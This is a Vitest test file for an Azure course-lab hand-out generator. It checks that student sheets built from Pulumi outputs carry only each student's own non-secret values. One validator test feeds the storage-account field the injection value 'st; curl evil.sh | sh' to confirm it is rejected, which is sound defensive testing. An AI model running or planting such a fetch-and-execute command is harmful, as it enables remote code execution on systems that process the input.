/**
 * The hand-out's pure parts: reading a stack's outputs (only the named, non-credential fields of each
 * student's own entry; every problem at once, at its key) and building and rendering one sheet.
 */
import { describe, expect, it } from "vitest";
import { readStudentOutputs, sharedValueProblems } from "../../src/handout/outputs.ts";
import {
  buildSheet,
  renderSheetJson,
  renderSheetMarkdown,
  type HandoutClass,
} from "../../src/handout/sheet.ts";
import { fakeOutputs, HUB_SECRET, studentIds, studentMarkers, studentSecrets } from "./fixtures.ts";

const CLS: HandoutClass = {
  stack: "class-demo",
  courseId: "cloud-101",
  instructor: "instructor@example.edu",
  expiresOn: "2027-01-31",
  timeZone: "Europe/Amsterdam",
  webPorts: [80],
};

const ALICE = {
  resourceGroup: "rg-lab-class-demo-alice",
  resourceGroupId:
    "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg-lab-class-demo-alice",
  webIpAddress: "20.61.1.2",
  webFqdn: "lab-class-demo-alice.h4sh.westeurope.cloudapp.azure.com",
  ssh: { user: "azlabadmin", firstPort: 50000, lastPort: 50001 },
  storageAccount: "stlabclassdemoal1a2b3c4d",
  acrLoginServer: "crlabcloud101classdemo9f8e7d6c.azurecr.io",
  namespace: "student-alice",
  cluster: { name: "aks-lab-class-demo-hub", resourceGroup: "rg-lab-class-demo-hub" },
};

describe("readStudentOutputs", () => {
  it("copies only the named fields of each roster student's own entry", () => {
    const outputs = {
      environment: "class",
      hub: { kubeconfig: "apiVersion: v1 # hub" },
      students: {
        alice: {
          ...ALICE,
          kubeconfig: "apiVersion: v1 # alice",
          entraObjectId: "0b6e1f7a",
          vnetCidr: "10.128.4.0/24",
        },
        mallory: { resourceGroup: "rg-mallory" },
      },
    };
    expect(readStudentOutputs(outputs, ["alice"])).toEqual({ students: { alice: ALICE }, problems: [] });
  });

  it("reports every problem at once, at its key in the outputs", () => {
    const outputs = {
      students: {
        alice: {
          ...ALICE,
          storageAccount: "st; curl evil.sh | sh",
          ssh: { user: "azlabadmin", firstPort: "50000" },
        },
        bob: "rg-lab-class-demo-bob",
        hub: { kubeconfig: "x" },
      },
    };
    expect(readStudentOutputs(outputs, ["alice", "bob", "carol"]).problems).toEqual([
      {
        path: "students.alice.storageAccount",
        // Described, never echoed: outputs come from --show-secrets.
        message: "is not usable in a hand-out (a text of 21 characters, not shown: outputs can hold secrets)",
        allowed: "an Azure name, resource id, host name or address (letters, digits and . _ : / -)",
      },
      {
        path: "students.alice.ssh.firstPort",
        message: "is not a port",
        value: "50000",
        allowed: "an integer from 1 to 65535",
      },
      { path: "students.alice.ssh.lastPort", message: "is missing", allowed: "an integer from 1 to 65535" },
      {
        path: "students.bob",
        message: "is not an object",
        allowed: "outputs of the same stack after pulumi up with the current roster",
      },
      {
        path: "students.carol",
        message: "is missing: this student is in the roster but not in the outputs",
        allowed: "outputs of the same stack after pulumi up with the current roster",
      },
    ]);
  });

  it("refuses outputs that are not a class stack's", () => {
    expect(readStudentOutputs([1, 2], ["alice"]).problems).toEqual([
      {
        path: "(top level)",
        message: "is not a JSON object of stack outputs",
        allowed: "the output of pulumi stack output --json --show-secrets",
      },
    ]);
    expect(readStudentOutputs({ environments: {} }, ["alice"]).problems).toEqual([
      {
        path: "students",
        message: "is missing",
        allowed: "the students output of a class stack (pulumi stack output --json --show-secrets)",
      },
    ]);
    expect(readStudentOutputs({ students: { alice: {} } }, ["alice"]).problems).toEqual([
      {
        path: "students.alice.resourceGroup",
        message: "is missing",
        allowed: "the student's resource group name",
      },
    ]);
  });
});

describe("buildSheet", () => {
  it("fills every field from the deployed outputs", () => {
    const sheet = buildSheet(
      CLS,
      "alice",
      { displayName: "Alice Smith", upn: "alice@uni.edu" },
      ALICE,
      "outputs",
    );
    expect(sheet).toEqual({
      version: "azlab.handout/v1",
      source: "outputs",
      stack: "class-demo",
      course: "cloud-101",
      instructor: "instructor@example.edu",
      student: "alice",
      displayName: "Alice Smith",
      signIn: "alice@uni.edu",
      expires: { date: "2027-01-31", timeZone: "Europe/Amsterdam" },
      resourceGroup: {
        name: "rg-lab-class-demo-alice",
        portalUrl:
          "https://portal.azure.com/#resource/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg-lab-class-demo-alice/overview",
      },
      ssh: {
        host: "lab-class-demo-alice.h4sh.westeurope.cloudapp.azure.com",
        user: "azlabadmin",
        firstPort: 50000,
        lastPort: 50001,
        command: "ssh -p 50000 azlabadmin@lab-class-demo-alice.h4sh.westeurope.cloudapp.azure.com",
      },
      web: { url: "http://lab-class-demo-alice.h4sh.westeurope.cloudapp.azure.com/" },
      registry: {
        loginServer: "crlabcloud101classdemo9f8e7d6c.azurecr.io",
        commands: [
          "az acr login --name crlabcloud101classdemo9f8e7d6c",
          "docker tag hello:1 crlabcloud101classdemo9f8e7d6c.azurecr.io/alice/hello:1",
          "docker push crlabcloud101classdemo9f8e7d6c.azurecr.io/alice/hello:1",
        ],
      },
      storage: {
        account: "stlabclassdemoal1a2b3c4d",
        container: "work",
        commands: [
          "az storage container create --auth-mode login --account-name stlabclassdemoal1a2b3c4d --name work",
          "az storage blob upload --auth-mode login --account-name stlabclassdemoal1a2b3c4d --container-name work --name hello.txt --file hello.txt",
        ],
      },
      kubernetes: {
        cluster: "aks-lab-class-demo-hub",
        resourceGroup: "rg-lab-class-demo-hub",
        namespace: "student-alice",
        commands: [
          "az aks get-credentials --resource-group rg-lab-class-demo-hub --name aks-lab-class-demo-hub",
          "kubelogin convert-kubeconfig -l azurecli",
          "kubectl get pods --namespace student-alice",
        ],
      },
    });
  });

  it("puts placeholders where only a deployment knows the value, and keeps derived names, offline", () => {
    const sheet = buildSheet(
      { ...CLS, webPorts: [8080], storageContainer: "data" },
      "alice",
      {},
      ALICE,
      "plan",
    );
    expect(sheet.resourceGroup.portalUrl).toBe(
      "https://portal.azure.com/#resource/subscriptions/<subscription id>/resourceGroups/rg-lab-class-demo-alice/overview",
    );
    expect(sheet.ssh?.command).toBe("ssh -p 50000 azlabadmin@<web address after pulumi up>");
    expect(sheet.web).toEqual({ url: "http://<web address after pulumi up>:8080/" });
    expect(sheet.registry?.commands[0]).toBe("az acr login --name <registry name after pulumi up>");
    expect(sheet.storage).toEqual({
      account: "<storage account after pulumi up>",
      container: "data",
      commands: [
        "az storage blob upload --auth-mode login --account-name <storage account after pulumi up> --container-name data --name hello.txt --file hello.txt",
      ],
    });
    expect(sheet.kubernetes?.cluster).toBe("aks-lab-class-demo-hub");
  });

  it("leaves out the parts a student's lab does not have, and uses their own cluster when dedicated", () => {
    const sheet = buildSheet(
      CLS,
      "bob",
      {},
      { resourceGroup: "rg-b", cluster: { name: "aks-b", resourceGroup: "rg-b" } },
      "outputs",
    );
    expect(Object.keys(sheet)).toEqual([
      "version",
      "source",
      "stack",
      "course",
      "instructor",
      "student",
      "expires",
      "resourceGroup",
      "kubernetes",
    ]);
    expect(sheet.kubernetes?.commands[2]).toBe("kubectl get nodes");
  });

  it("renders the sheet as Markdown", () => {
    const sheet = buildSheet(
      CLS,
      "alice",
      { displayName: "Alice <Smith>", email: "alice@uni.edu" },
      ALICE,
      "outputs",
    );
    expect(renderSheetMarkdown(sheet)).toMatchSnapshot();
    expect(renderSheetMarkdown(buildSheet(CLS, "alice", {}, ALICE, "plan"))).toMatchSnapshot();
  });
});

describe("no sheet carries another student's values or a hub credential", () => {
  it("holds for 40 students whose outputs sit next to a hub kubeconfig and their own secrets", () => {
    const ids = studentIds(40);
    const { students, problems } = readStudentOutputs(fakeOutputs(ids), ids);
    expect(problems).toEqual([]);
    // Every student's values are looked for in every sheet: one expect per sheet over the list of what
    // is wrong with it, not one per pair of students (1,560 pairs), which was most of the file's time.
    const othersValues = new Map(ids.map((id) => [id, [...studentMarkers(id), ...studentSecrets(id)]]));
    for (const id of ids) {
      const sheet = buildSheet(CLS, id, {}, students[id]!, "outputs");
      const text = `${renderSheetMarkdown(sheet)}\n${renderSheetJson(sheet)}`;
      const wrong = [
        ...studentMarkers(id)
          .filter((marker) => !text.includes(marker))
          .map((marker) => `${id} lacks its ${marker}`),
        ...studentSecrets(id)
          .filter((secret) => text.includes(secret))
          .map((secret) => `${id} holds its secret ${secret}`),
        ...ids
          .filter((other) => other !== id)
          .flatMap((other) =>
            othersValues
              .get(other)!
              .filter((value) => text.includes(value))
              .map((value) => `${id} holds ${other}'s ${value}`),
          ),
        ...(text.includes(HUB_SECRET) ? [`${id} holds the hub secret`] : []),
        // No kubeconfig text of any cluster (the hub's starts with apiVersion).
        ...(text.includes("apiVersion") ? [`${id} holds kubeconfig text`] : []),
      ];
      expect(wrong).toEqual([]);
    }
  });
});

describe("sharedValueProblems", () => {
  it("refuses outputs that give two students the same resource group, storage or namespace", () => {
    const bob = {
      ...ALICE,
      resourceGroup: "rg-lab-class-demo-bob",
      resourceGroupId:
        "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg-lab-class-demo-bob",
      webIpAddress: "20.61.1.3",
      webFqdn: "lab-class-demo-bob.h4sh.westeurope.cloudapp.azure.com",
      namespace: "student-bob",
      storageAccount: "stlabclassdemobo5e6f7a8b",
    };
    // An edited outputs file: bob's entry names alice's storage account (in other case) and namespace.
    const { students } = readStudentOutputs(
      {
        students: {
          alice: ALICE,
          bob: { ...bob, storageAccount: "STLABCLASSDEMOAL1A2B3C4D", namespace: "student-alice" },
        },
      },
      ["alice", "bob"],
    );
    const allowed =
      "the student's own value, as pulumi stack output --json --show-secrets of this stack gives it";
    expect(sharedValueProblems(students)).toEqual([
      {
        path: "students.bob.storageAccount",
        message:
          "has the same value as students.alice.storageAccount; each sheet must name only its own student's resources",
        value: "STLABCLASSDEMOAL1A2B3C4D",
        allowed,
      },
      {
        path: "students.bob.namespace",
        message:
          "has the same value as students.alice.namespace; each sheet must name only its own student's resources",
        value: "student-alice",
        allowed,
      },
    ]);
    // The class registry and the shared cluster are the same for everyone, and that is fine.
    expect(sharedValueProblems({ alice: ALICE, bob })).toEqual([]);
  });
});
